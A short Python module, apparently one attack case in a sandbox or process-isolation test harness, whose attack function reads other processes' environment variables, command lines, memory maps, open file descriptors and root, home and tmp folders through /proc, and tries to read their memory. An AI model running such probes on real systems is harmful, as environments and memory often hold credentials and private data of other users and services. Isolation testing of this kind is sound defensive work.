"""Read what the processes around this one have: command lines, environments, open files, memory."""

import os
from pathlib import Path


def attack(world):
    seen = []
    for process in {"1", str(os.getppid()), str(world["service_pid"]), str(world["victim_pid"])}:
        for name in ("environ", "cmdline", "maps", "stack", "status"):
            try:
                seen.append(Path(f"/proc/{process}/{name}").read_text(errors="replace")[:2000])
            except OSError:
                continue
        for folder in ("fd", "root", "cwd", "root/home", "root/tmp"):
            try:
                seen += [str(os.listdir(f"/proc/{process}/{folder}"))]
            except OSError:
                continue
        try:
            seen.append(f"memory {Path(f'/proc/{process}/mem').open('rb').read(1)!r}")
        except (OSError, ValueError):
            continue
    print("\n".join(seen))
    return [text for text in seen if text.startswith("memory")]
